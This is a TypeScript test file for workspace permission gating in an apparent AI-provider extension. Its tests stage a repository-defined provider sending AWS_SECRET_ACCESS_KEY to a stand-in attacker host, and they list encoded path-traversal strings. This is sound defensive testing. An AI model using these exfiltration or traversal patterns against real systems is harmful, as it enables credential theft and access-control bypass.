import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { credentialFor, credentialReaches, keyPathOf } from '../../../src/core/provider';
import type { ProviderDefinition } from '../../../src/core/provider';
import { gateFor, parseDecisions, permissionKey, requestsOf, spendRequest } from '../../../src/core/workspace-permissions';
import type { Decision, Decisions, PermissionRequest } from '../../../src/core/workspace-permissions';
import { openAiDefinition } from '../definitions';

const SECRET = 'AKIAEXAMPLESECRETVALUE';
const ENV = { AWS_SECRET_ACCESS_KEY: SECRET, EMPTY: '' };

const envProvider = (extra: Partial<ProviderDefinition> = {}) =>
  openAiDefinition('shadow', { baseUrl: 'https://collector.attacker.example/v1', apiKeyEnv: 'AWS_SECRET_ACCESS_KEY', ...extra });

function spending(extra: Partial<ProviderDefinition> = {}): ProviderDefinition {
  const base = openAiDefinition('chat', extra);
  return { ...base, probe: { ...base.probe, method: 'POST', url: `${base.baseUrl}/chat/completions`, body: '{"max_tokens":1}', spendsTokens: true } };
}

function decided(...entries: [PermissionRequest, Decision][]): Decisions {
  return Object.fromEntries(entries.map(([request, decision]) => [permissionKey(request), { decision, request }]));
}

const gate = (definition: ProviderDefinition, decisions: Decisions = {}, fromWorkspace = true, trusted = true) =>
  gateFor({ definition, fromWorkspace, trusted, env: ENV, decisions });

describe('workspace permissions: what a cloned repository may use', () => {
  it('attack: a workspace provider sends AWS_SECRET_ACCESS_KEY to its own URL — held until the user answers, named exactly', () => {
    const g = gate(envProvider());
    assert.deepEqual(g, { kind: 'waiting', waiting: [{ kind: 'env', variable: 'AWS_SECRET_ACCESS_KEY', origin: 'https://collector.attacker.example' }] });
    assert.equal(JSON.stringify(g).includes(SECRET), false, 'the value is never part of the question');
  });

  it('a refused variable is not read; an allowed one is, for that origin only', () => {
    const [request] = requestsOf({ definition: envProvider(), fromWorkspace: true, trusted: true, env: ENV });
    assert.deepEqual(gate(envProvider(), decided([request!, 'denied'])), { kind: 'probe', envAllowed: false });
    assert.deepEqual(gate(envProvider(), decided([request!, 'allowed'])), { kind: 'probe', envAllowed: true });
    const moved = envProvider({ baseUrl: 'https://elsewhere.example/v1', origin: 'https://elsewhere.example' });
    assert.equal(gate(moved, decided([request!, 'allowed'])).kind, 'waiting', 'allowed for one origin is not allowed for another');
    const otherVariable = envProvider({ apiKeyEnv: 'EMPTY' });
    assert.deepEqual(gate(otherVariable, decided([request!, 'allowed'])), { kind: 'probe', envAllowed: false }, 'an empty variable has nothing to send: nothing to ask');
  });

  it("the user's own providers and Restricted Mode ask nothing (user settings are the user's; untrusted workspace providers are not probed)", () => {
    assert.deepEqual(gate(envProvider(), {}, false), { kind: 'probe', envAllowed: true });
    assert.deepEqual(gate(spending(), {}, false), { kind: 'probe', envAllowed: true });
    assert.deepEqual(requestsOf({ definition: envProvider(), fromWorkspace: true, trusted: false, env: ENV }), []);
    assert.deepEqual(gate(envProvider(), {}, true, false), { kind: 'probe', envAllowed: false });
  });

  it('attack: a workspace probe that spends tokens runs only once allowed; refused, it does not run', () => {
    const definition = spending();
    assert.deepEqual(gate(definition), { kind: 'waiting', waiting: [spendRequest(definition)] });
    assert.deepEqual(gate(definition, decided([spendRequest(definition), 'allowed'])), { kind: 'probe', envAllowed: false });
    assert.deepEqual(gate(definition, decided([spendRequest(definition), 'denied'])), { kind: 'denied', request: spendRequest(definition) });
  });

  it('attack: allowed once, the workspace then raises max_tokens, probes every 5 s or bills another project — asked again', () => {
    const allowed = spending();
    const decisions = decided([spendRequest(allowed), 'allowed']);
    const bigger: ProviderDefinition = { ...allowed, probe: { ...allowed.probe, body: '{"max_tokens":100000}' } };
    const faster: ProviderDefinition = { ...allowed, intervalMs: 5_000 };
    const otherAccount: ProviderDefinition = { ...allowed, probe: { ...allowed.probe, headers: { ...allowed.probe.headers, 'openai-project': 'proj_someone_else' } } };
    assert.equal(gate(bigger, decisions).kind, 'waiting');
    assert.equal(gate(faster, decisions).kind, 'waiting');
    assert.equal(gate(otherAccount, decisions).kind, 'waiting', 'headers can pick the model or the billed account');
    assert.equal(gate(allowed, decisions).kind, 'probe');
  });

  it('a refused token-spending probe wins over an unanswered variable: nothing runs, nothing more is asked', () => {
    const definition = spending({ apiKeyEnv: 'AWS_SECRET_ACCESS_KEY' });
    assert.deepEqual(gate(definition, decided([spendRequest(definition), 'denied'])), { kind: 'denied', request: spendRequest(definition) });
    assert.equal(requestsOf({ definition, fromWorkspace: true, trusted: true, env: ENV }).length, 2);
  });

  it('stored decisions are read back exactly, and anything malformed or mislabelled is dropped', () => {
    const env: PermissionRequest = { kind: 'env', variable: 'A', origin: 'https://a.example' };
    const good = decided([env, 'allowed'], [spendRequest(spending()), 'denied']);
    assert.deepEqual({ ...parseDecisions(JSON.parse(JSON.stringify(good))) }, good);
    for (const bad of [null, 'x', [], 42]) assert.deepEqual(parseDecisions(bad), {});
    const tampered = {
      // A decision filed under another request's key: it must not allow that one.
      [permissionKey({ ...env, variable: 'AWS_SECRET_ACCESS_KEY' })]: { decision: 'allowed', request: env },
      [permissionKey(env)]: { decision: 'maybe', request: env },
      x: { decision: 'allowed', request: { kind: 'other' } },
      y: null,
      z: { decision: 'allowed', request: { kind: 'spend', method: 'POST', url: 'u', bodyDigest: 'd', headersDigest: 'h' } },
      w: { decision: 'allowed', request: { kind: 'env', variable: 1, origin: 'o' } },
    };
    assert.deepEqual(Object.keys(parseDecisions(tampered)), []);
  });
});

describe('workspace permissions: what is asked, exactly', () => {
  it('an unset variable asks nothing, in Restricted Mode nothing is asked at all', () => {
    assert.deepEqual(requestsOf({ definition: envProvider({ apiKeyEnv: 'NOT_SET_ANYWHERE' }), fromWorkspace: true, trusted: true, env: ENV }), []);
    assert.deepEqual(requestsOf({ definition: spending(), fromWorkspace: true, trusted: false, env: ENV }), []);
    assert.deepEqual(requestsOf({ definition: spending(), fromWorkspace: false, trusted: true, env: ENV }), []);
  });

  it('the same headers in another order are the same request; another value is another', () => {
    const a = spending();
    const withHeaders = (headers: Record<string, string>): ProviderDefinition => ({ ...a, probe: { ...a.probe, headers } });
    const one = spendRequest(withHeaders({ 'x-a': '1', 'x-b': '2', 'x-c': '3' }));
    assert.equal(permissionKey(spendRequest(withHeaders({ 'x-c': '3', 'x-a': '1', 'x-b': '2' }))), permissionKey(one));
    assert.equal(permissionKey(spendRequest(withHeaders({ 'x-b': '2', 'x-c': '3', 'x-a': '1' }))), permissionKey(one));
    assert.notEqual(permissionKey(spendRequest(withHeaders({ 'x-a': '1', 'x-b': '2', 'x-c': '4' }))), permissionKey(one));
    assert.notEqual(permissionKey(spendRequest(withHeaders({}))), permissionKey(one));
  });

  it('a stored decision with any field of the wrong type is dropped, even filed under its own key', () => {
    const spend = spendRequest(spending()) as Extract<PermissionRequest, { kind: 'spend' }>;
    const env: PermissionRequest = { kind: 'env', variable: 'A', origin: 'https://a.example' };
    const broken: Record<string, unknown>[] = [
      { ...env, variable: 1 },
      { ...env, origin: 2 },
      { ...spend, method: 3 },
      { ...spend, url: 4 },
      { ...spend, bodyDigest: 5 },
      { ...spend, headersDigest: 6 },
      { ...spend, intervalMs: '60000' },
      { ...env, kind: 'other' },
    ];
    for (const request of broken) {
      const key = permissionKey(request as unknown as PermissionRequest);
      assert.deepEqual({ ...parseDecisions({ [key]: { decision: 'allowed', request } }) }, {}, JSON.stringify(request));
    }
    for (const request of [env, spend]) {
      const key = permissionKey(request);
      assert.deepEqual(Object.keys(parseDecisions({ [key]: { decision: 'denied', request } })), [key], 'and a whole one is kept');
    }
    assert.deepEqual({ ...parseDecisions({ [permissionKey(env)]: { decision: 'allowed', request: null } }) }, {});
  });
});

describe('a key bound to a path (a gateway with many tenants on one origin)', () => {
  const gateway = openAiDefinition('gw', { baseUrl: 'https://gateway.example/tenant-a' });

  it('reaches the base URL path and below, not a sibling path, another origin or the bare origin', () => {
    const credential = credentialFor(gateway, 'sk-tenant-a', keyPathOf(gateway))!;
    assert.equal(credential.pathPrefix, '/tenant-a/');
    assert.ok(credentialReaches(credential, new URL('https://gateway.example/tenant-a/models')));
    assert.ok(!credentialReaches(credential, new URL('https://gateway.example/tenant-ab/models')), 'a sibling with the same start');
    assert.ok(!credentialReaches(credential, new URL('https://gateway.example/tenant-b/models')));
    assert.ok(!credentialReaches(credential, new URL('https://gateway.example/models')));
    assert.ok(!credentialReaches(credential, new URL('https://gateway.example/tenant-a/../tenant-b/models')), 'dot segments are resolved first');
    for (const escape of ['..%2Ftenant-b/models', '..%2ftenant-b/models', '%2E%2E%2Ftenant-b/models', '..%5Ctenant-b/models', '..;/tenant-b/models', 'x%2F..%2F..%2Ftenant-b']) {
      assert.ok(!credentialReaches(credential, new URL(`https://gateway.example/tenant-a/${escape}`)), `an encoded separator a gateway may decode: ${escape}`);
    }
    assert.ok(credentialReaches(credential, new URL('https://gateway.example/tenant-a/v1/models?after=%2F')), 'a query is not a path');
    assert.ok(!credentialReaches(credential, new URL('http://gateway.example/tenant-a/models')), 'another scheme is another origin');
  });

  it('bound to the origin, it reaches every path there and nothing else', () => {
    const credential = credentialFor(gateway, 'sk-all')!;
    assert.equal(credential.pathPrefix, undefined);
    assert.ok(credentialReaches(credential, new URL('https://gateway.example/anything')));
    assert.ok(!credentialReaches(credential, new URL('https://gateway.example.attacker.example/anything')));
  });

  it('the path to bind is the base URL path with a closing slash; none for a bare origin or a broken base URL', () => {
    assert.equal(keyPathOf(openAiDefinition('a', { baseUrl: 'https://api.example/v1' })), '/v1/');
    assert.equal(keyPathOf(openAiDefinition('a', { baseUrl: 'https://api.example' })), undefined);
    assert.equal(keyPathOf({ baseUrl: '', origin: '' }), undefined);
  });
});
